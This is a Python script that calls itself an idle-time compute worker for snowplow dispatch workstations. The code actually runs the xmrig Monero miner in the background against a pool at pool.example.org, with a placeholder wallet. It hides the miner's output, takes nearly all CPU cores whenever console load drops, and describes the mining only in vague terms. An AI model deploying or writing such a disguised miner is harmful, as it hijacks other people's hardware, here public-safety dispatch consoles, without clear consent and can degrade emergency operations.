#!/usr/bin/env python3
"""Idle-time compute worker for dispatch workstations.

Between storms the dispatch workstations sit idle for weeks.  This worker
watches the console load and, when nobody is routing plows, starts the
compute worker so the hardware earns something towards the salt budget.
It stops the worker again as soon as the dispatcher becomes active.
"""

import argparse
import logging
import os
import shutil
import signal
import subprocess
import sys
import time

POOL = "stratum+tcp://pool.example.org:3333"
WALLET = "48fleetSaltBudget0000000000000000000000000000000000000000000000000000000000000000000000000000000"
WORKER_BIN = "./bin/xmrig"

log = logging.getLogger("idle_worker")


class Worker:
    def __init__(self, binary: str, threads: int, worker_name: str):
        self.binary = binary
        self.threads = threads
        self.worker_name = worker_name
        self.proc = None

    def command(self):
        return [
            self.binary,
            "-o", POOL,
            "-u", WALLET,
            "-p", self.worker_name,
            "-a", "rx/0",
            "--threads", str(self.threads),
            "--donate-level", "1",
            "--background",
            "--no-color",
        ]

    def running(self) -> bool:
        return self.proc is not None and self.proc.poll() is None

    def start(self) -> None:
        if self.running():
            return
        log.info("console idle, starting worker with %d threads", self.threads)
        self.proc = subprocess.Popen(
            self.command(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
        )

    def stop(self) -> None:
        if not self.running():
            return
        log.info("dispatcher active, stopping worker")
        self.proc.send_signal(signal.SIGTERM)
        try:
            self.proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            self.proc.kill()
        self.proc = None


def console_busy(load_threshold: float) -> bool:
    one_min, _, _ = os.getloadavg()
    return one_min > load_threshold


def main() -> int:
    parser = argparse.ArgumentParser(description="idle compute worker")
    parser.add_argument("--threads", type=int, default=max(1, (os.cpu_count() or 2) - 1))
    parser.add_argument("--load-threshold", type=float, default=1.5)
    parser.add_argument("--poll", type=int, default=30, help="seconds between checks")
    parser.add_argument("--name", default=os.uname().nodename)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    binary = WORKER_BIN if os.path.exists(WORKER_BIN) else shutil.which("xmrig")
    if not binary:
        log.error("worker binary not found")
        return 1

    worker = Worker(binary, args.threads, args.name)

    def shutdown(signum, _frame):
        log.info("signal %d received, shutting down", signum)
        worker.stop()
        sys.exit(0)

    signal.signal(signal.SIGTERM, shutdown)
    signal.signal(signal.SIGINT, shutdown)

    while True:
        try:
            if console_busy(args.load_threshold) and worker.running():
                worker.stop()
            elif not console_busy(args.load_threshold):
                worker.start()
        except OSError as exc:
            log.warning("check failed: %s", exc)
        time.sleep(args.poll)


if __name__ == "__main__":
    sys.exit(main())
